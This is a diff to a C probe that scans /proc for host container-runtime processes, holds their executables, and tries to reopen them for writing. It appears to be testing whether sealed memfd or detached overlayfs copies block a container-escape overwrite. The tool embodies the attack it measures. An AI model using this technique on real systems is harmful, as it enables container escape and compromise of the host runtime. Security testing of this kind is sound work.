@@ -3,11 +3,12 @@
  * scans /proc for processes whose /proc/PID/exe is a runtime binary on the
  * host (its path contains MATCH), holds an O_PATH fd of each, and reopens
  * it for writing as soon as it is no longer busy; it also tries to write
- * through every sealed memfd copy it finds. It prints what it reached, and
+ * through every sealed copy it finds (a memfd, or the binary in a detached
+ * read-only mount, whose path leads nowhere here). It prints what it reached, and
  * every second a summary line:
  *   summary: seen=N denied=N sealed=N reached=N overwrote=N
  * denied: processes whose exe it could not read (non-dumpable), sealed:
- * processes running a memfd copy, reached: O_PATH fds of a host runtime
+ * processes running a sealed copy, reached: O_PATH fds of a host runtime
  * binary, overwrote: successful writes (into the host binary or a copy).
  * Static, libc only. */
 #include <dirent.h>
@@ -18,6 +19,11 @@
 #include <string.h>
 #include <time.h>
 #include <unistd.h>
+
+#include <linux/magic.h>
+#include <sys/stat.h>
+#include <sys/statfs.h>
+#include <sys/statvfs.h>
 
 #define MAX_PIDS 8192
 #define MAX_HELD 64
@@ -79,6 +85,23 @@ static void try_sealed(int pid)
 		close(fd);
 }
 
+/* A sealed copy: a memfd, or a file in a read-only overlayfs mount that
+ * its path (target, read from exe) does not reach from here: a runtime
+ * binary in a detached mount. */
+static int is_sealed_copy(const char *exe, const char *target)
+{
+	struct statfs sf;
+	struct stat a, b;
+
+	if (strncmp(target, "/memfd:", 7) == 0)
+		return 1;
+	if (statfs(exe, &sf) < 0 || sf.f_type != OVERLAYFS_SUPER_MAGIC ||
+	    (sf.f_flags & ST_RDONLY) == 0)
+		return 0;
+	return stat(target, &a) < 0 || stat(exe, &b) < 0 || a.st_dev != b.st_dev ||
+	       a.st_ino != b.st_ino;
+}
+
 static void look_at(int pid, const char *match)
 {
 	char path[64], target[4096];
@@ -96,9 +119,11 @@ static void look_at(int pid, const char *match)
 		return;
 	}
 	target[n] = '\0';
-	if (strncmp(target, "/memfd:", 7) == 0) {
-		if (add_pid(&sealed_set, pid))
+	if (is_sealed_copy(path, target)) {
+		if (add_pid(&sealed_set, pid)) {
+			printf("sealed: /proc/%d/exe is %s\n", pid, target);
 			try_sealed(pid);
+		}
 		return;
 	}
 	if (strstr(target, match) == NULL || n_held >= MAX_HELD || !add_pid(&reached_set, pid))
